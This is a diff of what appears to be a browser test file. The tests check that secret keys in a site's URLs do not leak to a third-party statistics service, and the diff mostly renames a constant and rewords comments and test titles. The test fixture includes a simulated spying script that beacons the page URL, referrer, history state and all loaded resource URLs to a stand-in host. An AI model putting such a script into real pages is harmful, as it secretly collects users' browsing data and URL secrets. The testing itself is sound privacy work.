@@ -9,15 +9,15 @@ import { EXTENDED_DIST } from '../support/test-site.ts';
 const STATISTICS = 'https://stats.example.com';
 const SECRET = 'cs_secret_17';
 
-/** Reports every address that a script in the page can learn of. */
-const CURIOUS = `navigator.sendBeacon('${STATISTICS}/beacon', JSON.stringify([
+/** Reports every URL that a script in the page can see. */
+const SPYING_SCRIPT = `navigator.sendBeacon('${STATISTICS}/beacon', JSON.stringify([
   location.href, document.referrer, JSON.stringify(history.state),
   ...navigation.entries().map(({ url }) => url),
   ...performance.getEntries().map(({ name }) => name),
 ]));`;
 
 interface Fixtures {
-  /** What the statistics company has heard: addresses asked for, their referrers, and what its script reported. */
+  /** Everything that the statistics company receives: requested URLs, their referrers, and its script's reports. */
   heard: string[];
 }
 
@@ -45,7 +45,7 @@ async function listen(context: BrowserContext): Promise<string[]> {
     const request = route.request();
     heard.push(request.url(), (await request.allHeaders()).referer ?? '', request.postData() ?? '');
     return request.resourceType() === 'script'
-      ? route.fulfill({ contentType: 'text/javascript', body: CURIOUS })
+      ? route.fulfill({ contentType: 'text/javascript', body: SPYING_SCRIPT })
       : route.fulfill({ status: 204 });
   });
   return heard;
@@ -59,7 +59,7 @@ for (const address of [
   `/no-such-page?key=${SECRET}`,
 ]) {
   const [path] = address.split('?');
-  test(`what stands in the address of ${path} reaches nobody else, there and on the next page`, async ({
+  test(`secrets in the URL of ${path} reach nobody else, on this page or the next`, async ({
     page,
     heard,
   }) => {
